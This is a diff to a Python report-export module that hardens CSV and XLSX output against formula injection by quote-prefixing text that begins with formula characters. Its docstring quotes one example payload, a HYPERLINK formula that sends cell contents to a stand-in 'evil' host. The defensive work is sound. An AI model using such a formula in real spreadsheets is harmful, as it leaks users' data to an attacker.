@@ -1,20 +1,35 @@
 """Report exports for auditors: CSV (UTF-8 with BOM, so Excel and WPS open it as Chinese) and
 XLSX (openpyxl), with Chinese column headers. Money cells are exact: text in CSV, numbers with
-two decimals in XLSX."""
+two decimals in XLSX.
+
+Every spreadsheet the project writes goes through `cell` (tests/test_exports_neutralised.py
+checks that nothing else writes one), so no text can become a formula: a unit named
+`=HYPERLINK("http://evil/?"&A1,"click")` is written as text, prefixed with a quote as OWASP's
+CSV-injection guidance says, and in XLSX stored as a string cell as well. Only values the
+code computes (Decimal, int, float, dates) are written as numbers; text that looks like one
+("-1" typed into a name) is text and gets the prefix."""
 
 import csv
 import io
-from collections.abc import Sequence
+import re
+from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
+from datetime import date
 from decimal import Decimal
 from typing import Any, Literal
 
 from fastapi.responses import Response
 from openpyxl import Workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.worksheet.worksheet import Worksheet
 
 ExportFormat = Literal["json", "csv", "xlsx"]
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# What makes a spreadsheet read a cell as a formula (OWASP): one of these at the start, or
+# after a separator within the cell (pasted elsewhere, the cell may be split there).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA_AFTER_SEPARATOR = re.compile(r"[,;\t\r\n][=+\-@]")
 
 
 @dataclass
@@ -24,49 +39,77 @@ class Sheet:
     rows: Sequence[Sequence[Any]]
 
 
-def _cell(value: Any) -> Any:
+def neutralise(text: str) -> str:
+    """Text that a spreadsheet would evaluate, prefixed with `'` so that it shows as it is."""
+    if text.startswith(_FORMULA_START) or _FORMULA_AFTER_SEPARATOR.search(text):
+        return "'" + text
+    return text
+
+
+def cell(value: Any, fmt: Literal["csv", "xlsx"]) -> Any:
+    """A value as a spreadsheet cell: numbers and dates the code computed stay what they are
+    (Decimal as exact text in CSV); everything else is neutralised text."""
+    if value is None:
+        return ""
     if isinstance(value, Decimal):
-        return format(value, "f")
-    return "" if value is None else value
+        return format(value, "f") if fmt == "csv" else value
+    if isinstance(value, int | float | date) and not isinstance(value, bool):
+        return value
+    text = neutralise(str(value))
+    if fmt == "xlsx":
+        # A worksheet cannot hold most control characters (openpyxl refuses the whole file):
+        # a name stored before names refused them is shown with U+FFFD where one was.
+        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
+    return text
 
 
-def _xlsx_cell(value: Any) -> Any:
-    # A worksheet cannot hold most control characters (openpyxl refuses the whole file):
-    # a stored name with one is shown with U+FFFD where it was.
-    if isinstance(value, str):
-        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
-    return "" if value is None else value
+def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow([cell(value, "csv") for value in headers])
+    for row in rows:
+        writer.writerow([cell(value, "csv") for value in row])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")  # BOM: Excel and WPS read UTF-8
 
 
 def csv_response(sheet: Sheet, filename: str) -> Response:
-    buffer = io.StringIO()
-    writer = csv.writer(buffer)
-    writer.writerow(sheet.headers)
-    for row in sheet.rows:
-        writer.writerow([_cell(value) for value in row])
     return Response(
-        ("\ufeff" + buffer.getvalue()).encode("utf-8"),
+        csv_bytes(sheet.headers, sheet.rows),
         media_type="text/csv; charset=utf-8",
         headers={"Content-Disposition": f'attachment; filename="{filename}.csv"'},
     )
 
 
-def xlsx_response(sheets: Sequence[Sheet], filename: str) -> Response:
-    workbook = Workbook()
-    workbook.remove(workbook.active)
+def append_row(worksheet: Worksheet, row: Sequence[Any]) -> None:
+    """One row of cells; text is a string cell (openpyxl would store "=..." as a formula)."""
+    worksheet.append([cell(value, "xlsx") for value in row])
+    for written in worksheet[worksheet.max_row]:
+        if isinstance(written.value, str):
+            written.data_type = "s"
+        elif isinstance(written.value, Decimal):
+            written.number_format = "0.00"
+
+
+def workbook(sheets: Sequence[Sheet]) -> Workbook:
+    book = Workbook()
+    book.remove(book.active)
     for sheet in sheets:
-        worksheet = workbook.create_sheet(sheet.title)
-        worksheet.append(list(sheet.headers))
+        worksheet = book.create_sheet(sheet.title)
+        append_row(worksheet, sheet.headers)
         for row in sheet.rows:
-            worksheet.append([_xlsx_cell(value) for value in row])
-        for cells in worksheet.iter_rows(min_row=2):
-            for cell in cells:
-                if isinstance(cell.value, Decimal):
-                    cell.number_format = "0.00"
+            append_row(worksheet, row)
+    return book
+
+
+def xlsx_bytes_response(book: Workbook, filename: str) -> Response:
     buffer = io.BytesIO()
-    workbook.save(buffer)
+    book.save(buffer)
     return Response(
         buffer.getvalue(),
         media_type=XLSX_TYPE,
         headers={"Content-Disposition": f'attachment; filename="{filename}.xlsx"'},
     )
+
+
+def xlsx_response(sheets: Sequence[Sheet], filename: str) -> Response:
+    return xlsx_bytes_response(workbook(sheets), filename)
